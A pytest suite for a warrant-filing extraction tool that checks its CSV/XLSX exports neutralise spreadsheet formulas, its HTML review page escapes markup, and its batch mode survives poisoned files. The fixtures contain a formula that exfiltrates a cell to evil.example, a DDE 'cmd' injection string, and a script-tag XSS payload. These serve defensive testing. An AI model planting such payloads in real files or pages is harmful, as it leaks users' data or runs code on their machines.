"""Hostile files through the reports: spreadsheet exports, the review page and batch mode
(all owned elsewhere; these tests use only their public commands).

A filer controls the EDGAR `<TYPE>`, `<FILENAME>` and `<DESCRIPTION>` lines, and those land in
spreadsheet cells: CSV and XLSX must neutralize formulas there while JSON keeps the true
value. Markup in a file (a plain-text exhibit may hold `<script>` as text) must reach the
review page escaped. Batch mode must give one record per document for a folder of poisoned
files.
"""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest

from . import builders as b

INJECTED = {
    "description": '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "filename": "@SUM(1+1)*cmd|' /C calc'!A0.htm",
    "document": "+EX-4.2",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _wrapped_seed() -> str:
    return (
        f"<DOCUMENT>\n<TYPE>{INJECTED['document']}\n<SEQUENCE>2\n"
        f"<FILENAME>{INJECTED['filename']}\n<DESCRIPTION>{INJECTED['description']}\n<TEXT>\n"
        + b.seed_text()
        + "\n</TEXT>\n</DOCUMENT>\n"
    )


def _command() -> list[str]:
    script = Path(sys.executable).with_name("warrant-terms")
    return [str(script)] if script.exists() else [sys.executable, "-m", "warrant_terms.cli"]


def _run(*args: str) -> subprocess.CompletedProcess[str]:
    proc = subprocess.run(
        [*_command(), *args],
        capture_output=True,
        text=True,
        timeout=180,
        env=dict(os.environ),
        check=False,
    )
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert "Traceback" not in proc.stderr
    return proc


@pytest.fixture()
def injected_file(tmp_path: Path) -> Path:
    path = tmp_path / "injected.txt"
    path.write_text(_wrapped_seed(), encoding="utf-8")
    return path


def test_json_keeps_the_true_values(injected_file: Path, tmp_path: Path) -> None:
    out = tmp_path / "out.json"
    _run("extract", str(injected_file), "--format", "json", "-o", str(out))
    (record,) = json.loads(out.read_text(encoding="utf-8"))
    assert record["status"] == "ok"
    for key, value in INJECTED.items():
        assert record["source"][key] == value


def test_csv_neutralizes_formulas(injected_file: Path, tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    _run("extract", str(injected_file), "--format", "csv", "-o", str(out))
    with out.open(newline="", encoding="utf-8-sig") as fh:
        rows = list(csv.DictReader(fh))
    assert rows
    cells = [v for row in rows for v in row.values() if isinstance(v, str)]
    assert any(INJECTED["description"] in c for c in cells)  # still there, to be read
    for cell in cells:
        if cell.startswith(TRIGGERS):
            assert cell.lstrip(TRIGGERS[2]).replace(".", "", 1).isdigit(), cell  # a number only


def test_xlsx_holds_no_formula(injected_file: Path, tmp_path: Path) -> None:
    out = tmp_path / "out.xlsx"
    _run("extract", str(injected_file), "--format", "xlsx", "-o", str(out))
    book = openpyxl.load_workbook(out)
    seen = False
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and INJECTED["description"] in cell.value:
                    seen = True
                    assert not cell.value.startswith(TRIGGERS)
    assert seen


def test_batch_gives_one_record_per_poisoned_file(injected_file: Path, tmp_path: Path) -> None:
    folder = tmp_path / "inbox"
    folder.mkdir()
    injected_file.rename(folder / "injected.txt")
    (folder / "empty.txt").write_bytes(b"")
    (folder / "archive.pdf").write_bytes(b.zip_bytes())
    (folder / "bomb.pdf").write_bytes(b.bomb_pdf(128 << 20))
    (folder / "deep.html").write_text(b.nested_html(10_000, "<script>x()</script>Nothing here."))
    (folder / "good.txt").write_text(b.seed_text(), encoding="utf-8")
    db = tmp_path / "results.sqlite"
    _run(
        "batch", str(folder), "--db", str(db), "--workers", "2", "--timeout", "60", "--no-progress"
    )
    out = tmp_path / "all.jsonl"
    _run("export", "--db", str(db), "--format", "jsonl", "-o", str(out))
    records = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    got = {
        Path(r["source"]["path"]).name: (
            r["status"],
            r["errors"][0]["code"] if r["errors"] else None,
        )
        for r in records
    }
    assert len(records) == len(got) == 6
    assert got == {
        "injected.txt": ("ok", None),
        "empty.txt": ("error", "empty"),
        "archive.pdf": ("error", "not_text"),
        "bomb.pdf": ("error", "too_large"),
        "deep.html": ("not_warrant", None),
        "good.txt": ("ok", None),
    }


def test_review_page_escapes_file_content(tmp_path: Path) -> None:
    payload = "<script>alert('pwned')</script>"
    text = b.GRANT.replace("Example Holder LLC", f"Example Holder LLC {payload}")
    doc = tmp_path / "scripted.txt"
    doc.write_text(
        "<DOCUMENT>\n<TYPE>EX-4.1\n<DESCRIPTION>" + payload + "\n<TEXT>\n" + text + "</TEXT>\n",
        encoding="utf-8",
    )
    out = tmp_path / "review"
    _run("review", str(doc), "-o", str(out))
    pages = list(out.glob("*.html"))
    assert pages
    for page in pages:
        html = page.read_text(encoding="utf-8")
        assert payload not in html and "alert('pwned')</script>" not in html
        assert (
            "alert(&#x27;pwned&#x27;)" in html
            or "alert(&#39;pwned&#39;)" in html
            or ("&lt;script&gt;" in html)
        )
